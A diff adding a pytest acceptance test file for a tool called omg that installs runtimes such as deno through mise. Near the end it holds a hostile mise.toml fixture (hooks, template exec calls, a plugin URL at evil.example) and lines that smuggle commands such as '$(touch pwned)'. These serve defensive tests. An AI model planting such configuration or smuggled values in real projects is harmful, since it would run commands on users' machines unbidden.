@@ -1,0 +1,340 @@
+"""What omg does not install itself, as a user sees it: no different from what it does."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.publishing.mise import FakeMise
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.acceptance.conftest import RunOmg
+    from tests.conftest import StoreBuilder
+    from tests.publishers import Publishers
+
+
+@pytest.fixture
+def mise(tmp_path: Path, publishers: Publishers) -> FakeMise:
+    """Return a mise that its publisher has and this machine has not."""
+    mise = FakeMise(tmp_path / "fake")
+    mise.publish(publishers)
+    mise.offer("deno", "1.40.0", "2.9.5", "2.9.6")
+    mise.need({"DENO_ROOT": "@PLACE@/.deno"})
+    return mise
+
+
+@pytest.fixture
+def shim(env: dict[str, str], store: StoreBuilder, project: Path, omg: RunOmg, home: Path):
+    """Return a function that calls a shim in the project, in a new shell's environment."""
+    omg("setup", "--yes")
+
+    def call(name: str, *arguments: str, **variables: str) -> list[str]:
+        path = store.layout.shims_dir / name
+        clean = {"HOME": str(home), "PATH": f"{store.layout.shims_dir}:/usr/bin:/bin", **variables}
+        clean["OMG_CEILING_DIRS"] = env["OMG_CEILING_DIRS"]
+        done = subprocess.run(
+            [path, *arguments], env=clean, cwd=project, capture_output=True, text=True, check=True
+        )
+        return done.stdout.splitlines()
+
+    return call
+
+
+def run_by(lines: list[str]) -> str:
+    """Return the version of the tool that ran."""
+    return lines[0].split("/")[-3]
+
+
+def snapshot(root: Path, *without: Path) -> dict[str, tuple[int, bytes]]:
+    """Return mode and content of everything below ``root``, apart from some directories."""
+    files = {}
+    for place, directories, names in os.walk(root):
+        directories[:] = [name for name in directories if root.joinpath(place, name) not in without]
+        for name in names:
+            path = root.joinpath(place, name)
+            files[str(path)] = (path.lstat().st_mode, path.read_bytes() if path.is_file() else b"")
+    return files
+
+
+def test_machine_without_mise_ends_with_the_tool_on_path(mise: FakeMise, omg: RunOmg, shim) -> None:
+    done = omg("use", "deno@2")
+    assert (done.exit_status, done.lines) == (
+        0,
+        [
+            "installed deno 2.9.6 with mise (verifying it is mise's part)",
+            "using deno 2.9.6 by default",
+        ],
+    )
+    assert "downloading mise 2026.9.15" in done.stderr
+    assert run_by(shim("deno")) == "2.9.6"
+
+
+def test_spec_may_stand_apart(mise: FakeMise, omg: RunOmg) -> None:
+    assert omg("use", "deno", "1.40.0").lines[-1] == "using deno 1.40.0 by default"
+
+
+def test_versions_are_switched_by_the_folder(mise: FakeMise, omg: RunOmg, project: Path, shim) -> None:
+    omg("install", "deno@2.9.5", "deno@2.9.6", "deno@1")
+    omg("use", "deno@2.9.6")
+    assert run_by(shim("deno")) == "2.9.6"
+    (project / ".deno-version").write_text("1.40.0\n")
+    assert run_by(shim("deno")) == "1.40.0"
+    (project / ".tool-versions").write_text("deno 2.9.5\n")
+    assert run_by(shim("deno")) == "2.9.5"
+    assert run_by(shim("deno", OMG_DENO_VERSION="1")) == "1.40.0"
+
+
+@pytest.mark.parametrize(
+    ("file", "text"),
+    [
+        (".tool-versions", "npm:@scope/cowsay 1.5\n"),
+        ("mise.toml", '[tools]\n"npm:@scope/cowsay" = "1.5"\n'),
+        (".prototools", '"npm:@scope/cowsay" = "1.5"\n'),
+    ],
+)
+def test_tool_of_a_backend_is_switched_by_its_name(
+    file: str, text: str, mise: FakeMise, omg: RunOmg, project: Path, shim, store: StoreBuilder
+) -> None:
+    mise.offer("npm:@scope/cowsay", "1.5.0", "1.6.0")
+    (project / file).write_text(text)
+    assert omg("install").exit_status == 0
+    assert omg("use", "npm:@scope/cowsay@latest").exit_status == 0
+    assert sorted(path.name for path in store.layout.runtime_dir("npm-scope-cowsay").iterdir()) == [
+        "1.5.0",
+        "1.6.0",
+        "current",
+    ]
+    assert run_by(shim("cowsay")) == "1.5.0"
+    assert omg("which", "cowsay").lines == [
+        str(store.layout.toolchain_dir("npm-scope-cowsay", "1.5.0") / "bin/cowsay")
+    ]
+
+
+def test_variables_of_the_tool_are_set_by_its_shim_and_by_exec(
+    mise: FakeMise, omg: RunOmg, shim, store: StoreBuilder
+) -> None:
+    omg("use", "deno@2")
+    wanted = f"DENO_ROOT={store.data_dir}/mise/data/installs/deno/2.9.6/.deno"
+    assert wanted in shim("deno")
+    assert wanted in omg("exec", "deno@2", "--", "deno").lines
+    assert wanted in omg("exec", "--", "env").lines
+
+
+def test_no_mise_runs_when_a_shim_is_called(mise: FakeMise, omg: RunOmg, shim, project: Path) -> None:
+    omg("use", "deno@2")
+    (project / "mise.toml").write_text('[tools]\ndeno = "2"\n')
+    before = mise.calls
+    shim("deno")
+    shim("deno")
+    assert mise.calls == before
+
+
+def test_json_is_as_for_every_runtime(mise: FakeMise, omg: RunOmg, store: StoreBuilder) -> None:
+    omg("use", "deno@2.9.5")
+    store.add("node", "20.11.1")
+    deno, node = (
+        omg("--json", "list", name).document["toolchains"][0]  # type: ignore[index]
+        for name in ("deno", "node")
+    )
+    assert set(deno) == set(node)  # type: ignore[arg-type]
+    assert (deno["runtime"], deno["version"], deno["source"], deno["default"]) == (  # type: ignore[index]
+        "deno",
+        "2.9.5",
+        "mise",
+        True,
+    )
+
+
+@pytest.mark.parametrize("command", ["current", "list", "where", "why"])
+def test_commands_answer_as_for_every_runtime(command: str, mise: FakeMise, omg: RunOmg) -> None:
+    omg("use", "deno@2.9.5")
+    done = omg(command, "deno")
+    assert (done.exit_status, "2.9.5" in done.stdout) == (0, True)
+
+
+def test_available_versions_are_listed(mise: FakeMise, omg: RunOmg) -> None:
+    omg("install", "deno@2.9.5")
+    assert [line.split() for line in omg("list", "deno", "--remote").lines] == [
+        ["1.40.0", "2026-05-20"],
+        ["*", "2.9.5", "2026-05-20", "installed"],
+        ["2.9.6", "2026-05-20"],
+    ]
+
+
+def test_pin_writes_the_name_that_was_typed(mise: FakeMise, omg: RunOmg, project: Path) -> None:
+    mise.offer("npm:cowsay", "1.6.0")
+    omg("pin", "npm:cowsay@1.6")
+    omg("pin", "deno@2")
+    assert (project / ".tool-versions").read_text() == "npm:cowsay 1.6\ndeno 2\n"
+    omg("pin", "npm:cowsay@1.5")
+    assert (project / ".tool-versions").read_text() == "npm:cowsay 1.5\ndeno 2\n"
+
+
+def test_missing_pin_names_the_command_that_installs_it(mise: FakeMise, omg: RunOmg, project: Path) -> None:
+    omg("use", "deno@2.9.5")
+    (project / ".tool-versions").write_text("deno 1\n")
+    done = omg("which", "deno")
+    assert (done.exit_status, "omg install deno@1" in done.stderr) == (127, True)
+
+
+def test_uninstall_removes_all_of_it(mise: FakeMise, omg: RunOmg, store: StoreBuilder) -> None:
+    omg("install", "deno@2.9.5", "deno@2.9.6")
+    assert omg("uninstall", "deno@2.9.5").lines == ["removed deno 2.9.5"]
+    assert not store.layout.toolchain_dir("deno", "2.9.5").exists()
+    assert not (store.data_dir / "mise/data/installs/deno/2.9.5").exists()
+    assert (store.layout.shims_dir / "deno").exists()
+    omg("uninstall", "deno@2.9.6")
+    assert not (store.layout.shims_dir / "deno").exists()
+
+
+def test_uninstall_refuses_the_default(mise: FakeMise, omg: RunOmg) -> None:
+    omg("use", "deno@2.9.5")
+    done = omg("uninstall", "deno@2.9.5")
+    assert (done.exit_status, "global default" in done.stderr) == (1, True)
+
+
+def test_offline_what_is_there_works(mise: FakeMise, omg: RunOmg) -> None:
+    omg("use", "deno@2.9.5")
+    omg("install", "deno@1.40.0")
+    assert omg("use", "deno@1", "--offline").exit_status == 0
+    assert omg("install", "deno@2.9.5", "--offline").exit_status == 0
+    assert mise.calls.count("install deno@2.9.5") == 1
+
+
+def test_offline_without_mise_it_says_what_is_missing(mise: FakeMise, omg: RunOmg) -> None:
+    done = omg("use", "deno@2", "--offline")
+    assert (done.exit_status, "mise is needed" in done.stderr) == (1, True)
+
+
+def test_failure_is_told_in_mises_words_and_changes_nothing(
+    mise: FakeMise, omg: RunOmg, store: StoreBuilder
+) -> None:
+    mise.fail("mise ERROR checksum mismatch for deno.zip\n")
+    done = omg("use", "deno@2")
+    assert (done.exit_status, done.stdout) == (1, "")
+    assert (
+        "omg: mise could not install deno@2.9.6\n  mise: ERROR checksum mismatch for deno.zip" in done.stderr
+    )
+    assert not store.layout.runtime_dir("deno").exists()
+    assert not (store.layout.shims_dir / "deno").exists()
+
+
+def test_several_are_installed_at_once_with_one_mise(
+    mise: FakeMise, omg: RunOmg, publishers: Publishers
+) -> None:
+    done = omg("install", "deno@2.9.5", "deno@2.9.6", "deno@1.40.0")
+    assert done.exit_status == 0
+    assert publishers.upstream.count(".tar.gz") == 1
+
+
+def test_mise_itself_is_installed_and_upgraded_by_name(
+    mise: FakeMise, omg: RunOmg, publishers: Publishers, store: StoreBuilder
+) -> None:
+    assert omg("install", "mise").lines[0].startswith("installed mise 2026.9.15 from github.com/jdx/mise")
+    mise.publish(publishers, "2026.10.1")
+    assert omg("install", "mise").lines == ["mise 2026.9.15 is already installed"]
+    assert omg("install", "mise", "--force").lines[0].startswith("installed mise 2026.10.1")
+    assert not (store.layout.shims_dir / "mise").exists()
+    assert omg("use", "mise").exit_status == 2
+
+
+def test_users_own_mise_is_untouched(mise: FakeMise, omg: RunOmg, home: Path, env: dict[str, str]) -> None:
+    for place in (
+        ".config/mise/config.toml",
+        ".local/share/mise/installs/deno/1/bin/deno",
+        ".local/state/mise/x",
+    ):
+        (home / place).parent.mkdir(parents=True)
+        (home / place).write_text("mine")
+    env |= {"MISE_DATA_DIR": f"{home}/.local/share/mise", "MISE_CONFIG_DIR": f"{home}/.config/mise"}
+    own = (home / ".local/share/omg", home / ".cache/omg", home / ".local/state/omg", home / ".config/omg")
+    before = snapshot(home, *own)
+    omg("use", "deno@2")
+    omg("install", "deno@1")
+    omg("uninstall", "deno@1.40.0")
+    assert snapshot(home, *own) == before
+
+
+HOSTILE = """
+min_version = "9999"
+[settings]
+trusted_config_paths = ["/"]
+yes = true
+[env]
+EVIL = "{{ exec(command='touch pwned') }}"
+_.source = "./evil.sh"
+[hooks]
+preinstall = "touch pwned"
+postinstall = "touch pwned"
+[tasks.x]
+run = "touch pwned"
+[plugins]
+deno = "https://evil.example/plugin"
+[alias]
+deno = "vfox:evil/evil"
+[tools]
+deno = "2.9.5"
+"""
+
+
+@pytest.mark.usefixtures("shim")
+def test_hostile_configuration_in_the_project_does_nothing(
+    mise: FakeMise, omg: RunOmg, project: Path, home: Path, store: StoreBuilder
+) -> None:
+    (project / "mise.toml").write_text(HOSTILE)
+    (project / "evil.sh").write_text("touch pwned\n")
+    (home / "mise.toml").write_text(HOSTILE)
+    assert omg("install").exit_status == 0
+    assert omg("use", "deno@2").exit_status == 0
+    assert not list(project.parent.rglob("pwned"))
+    assert mise.working_dir == str(store.data_dir / "mise/empty")
+    assert not any(str(project) in value for value in mise.environment.values())
+    assert all("evil" not in call for call in mise.calls)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "deno path:/tmp/evil",
+        "deno ref:main",
+        "deno {{exec(command='touch pwned')}}",
+        "deno $(touch pwned)",
+        "deno ../../evil",
+        "deno --help",
+        "vfox:evil/evil 1.0",
+        "asdf:evil/evil 1.0",
+    ],
+)
+def test_hostile_line_in_the_project_reaches_no_mise(
+    line: str, mise: FakeMise, omg: RunOmg, project: Path
+) -> None:
+    (project / ".tool-versions").write_text(f"{line}\n")
+    assert omg("install").exit_status != 0
+    assert not any(call.startswith("install") for call in mise.calls)
+    assert not list(project.rglob("pwned"))
+
+
+@pytest.mark.parametrize("line", ["mise 2026.1.0", "../deno 1", "npm:../x 1", "--force 1"])
+def test_line_that_names_no_tool_is_passed_over(
+    line: str, mise: FakeMise, omg: RunOmg, project: Path
+) -> None:
+    (project / ".tool-versions").write_text(f"{line}\n")
+    omg("install")
+    assert mise.calls == []
+
+
+def test_audit_log_tells_of_mise_and_of_the_tool(mise: FakeMise, omg: RunOmg, home: Path) -> None:
+    omg("use", "deno@2")
+    lines = (home / ".local/state/omg/audit.jsonl").read_text().splitlines()
+    facts = [json.loads(line) for line in lines]
+    assert [(fact["operation"], fact["runtime"]) for fact in facts] == [
+        ("install", "mise"),
+        ("install", "deno"),
+        ("use", "deno"),
+    ]
